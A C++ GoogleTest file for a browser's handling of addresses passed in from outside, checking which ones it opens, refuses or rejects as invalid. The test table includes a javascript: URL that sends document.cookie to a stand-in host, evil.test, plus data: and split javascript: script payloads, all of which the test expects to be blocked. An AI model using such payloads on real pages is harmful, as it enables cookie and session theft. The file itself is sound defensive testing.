#include "util/outsideaddress.h"

#include <gtest/gtest.h>

#include <glib.h>
#include <glib/gstdio.h>

namespace {

using Kind = outsideaddress::Verdict::Kind;

// What the command line or another program hands over: only web pages, a
// local file the user named and the blank page open.
TEST(OutsideAddress, OnlyWebPagesFilesAndTheBlankPageOpen)
{
    gchar *made = g_dir_make_tmp("outside-XXXXXX", nullptr);
    const std::string folder = made, file = folder + "/bank.test";
    g_free(made);
    ASSERT_TRUE(g_file_set_contents(file.c_str(), "a file", -1, nullptr));
    const struct
    {
        std::string given;
        Kind kind;
        std::string text; // the address opened, or the start of what the user is told
    } rows[] = {
        {" \t ", Kind::Ignore, ""},
        {"http://bank.test/login?a=1", Kind::Open, "http://bank.test/login?a=1"},
        {"http://b\u00fccher.test/", Kind::Open, "http://b\u00fccher.test/"},
        {"About:Blank", Kind::Open, "about:blank"},
        // A file the user named wins over the host it could also be.
        {"./bank.test", Kind::Open, "file://" + file},
        {"bank.test", Kind::Open, "file://" + file},
        {"file://localhost" + file, Kind::Open, "file://" + file},
        {" JavaScript:void(new Image().src='http://evil.test/log?c='+document.cookie)", Kind::Refuse,
         "Skimlark did not open the javascript: address it was handed: from outside, it opens only web pages and "
         "files."},
        {"data:text/html,<script>alert(1)</script>", Kind::Refuse, "Skimlark did not open the data: address"},
        {"about:config", Kind::Refuse, "Skimlark did not open the about: address"},
        {"file://server/share/x.html", Kind::Refuse, "Skimlark did not open the file: address"},
        {"hello world", Kind::Invalid,
         "Skimlark cannot open \u201chello world\u201d: it is neither a web address nor a file."},
        {"http://", Kind::Invalid, "Skimlark cannot open \u201chttp://\u201d"},
        {"java\nscript:alert(1)", Kind::Invalid, "Skimlark cannot open \u201cjava script:alert(1)\u201d"},
        {"a " + std::string(500, 'w'), Kind::Invalid, "Skimlark cannot open \u201ca " + std::string(198, 'w') + "\u2026\u201d:"},
    };
    for (const auto &row : rows) {
        SCOPED_TRACE(row.given);
        const outsideaddress::Verdict verdict = outsideaddress::judge(row.given, folder);
        EXPECT_EQ(verdict.kind, row.kind);
        EXPECT_EQ(verdict.text.substr(0, row.kind == Kind::Open ? std::string::npos : row.text.size()), row.text);
    }
    // Without a folder to look in, a bare name is a web address.
    EXPECT_EQ(outsideaddress::judge("bank.test", "").text, "http://bank.test");
    g_unlink(file.c_str());
    g_rmdir(folder.c_str());
}

} // namespace
